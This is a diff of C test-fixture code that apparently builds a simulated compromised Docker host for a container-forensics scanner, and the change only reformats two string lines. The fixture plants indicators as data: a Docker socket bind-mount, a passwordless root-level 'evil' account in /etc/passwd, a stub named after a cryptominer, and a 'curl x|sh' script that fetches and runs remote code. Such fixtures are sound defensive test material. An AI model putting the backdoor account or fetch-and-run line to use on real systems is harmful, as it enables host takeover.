@@ -130,7 +130,8 @@ static void build_docker(void)
         "\"RestartPolicy\":{\"Name\":\"always\"},\"Mounts\":[{\"Type\":\"bind\","
         "\"Source\":\"/var/run/docker.sock\",\"Target\":\"/s.sock\"}]}");
     /* logs: rotation .1 gzip-compressed (older), then the live file with a bad line */
-    const char *old = "{\"log\":\"first\\n\",\"stream\":\"stdout\",\"time\":\"2024-03-12T14:02:13Z\"}\n";
+    const char *old =
+        "{\"log\":\"first\\n\",\"stream\":\"stdout\",\"time\":\"2024-03-12T14:02:13Z\"}\n";
     char p[600];
     snprintf(p, sizeof(p), "%s/var/lib/docker/containers/" ID1 "/" ID1 "-json.log.1.gz", base);
     gzFile g = gzopen(p, "wb");
@@ -157,7 +158,8 @@ static void build_docker(void)
     PUT("var/lib/docker/overlay2/b0/diff/bin/busybox", "\x7f" "ELF-base");
     PUT("var/lib/docker/overlay2/b0/diff/opt/old/file", "x");
     mkp("var/lib/docker/overlay2/b0/diff/tmp");
-    PUT("var/lib/docker/overlay2/m1/diff/etc/passwd", "root:x:0:0::/root:/bin/sh\nevil::0:0::/:/bin/sh\n");
+    PUT("var/lib/docker/overlay2/m1/diff/etc/passwd",
+        "root:x:0:0::/root:/bin/sh\nevil::0:0::/:/bin/sh\n");
     put("var/lib/docker/overlay2/m1/diff/tmp/kinsing", "\x7f" "ELF\x02\x01", 6, 0644);
     put("var/lib/docker/overlay2/m1/diff/tmp/zzz", "#!/bin/sh\ncurl x|sh\n", 20, 0644);
     put("var/lib/docker/overlay2/m1/diff/tmp/run.sh", "echo", 4, 0755);
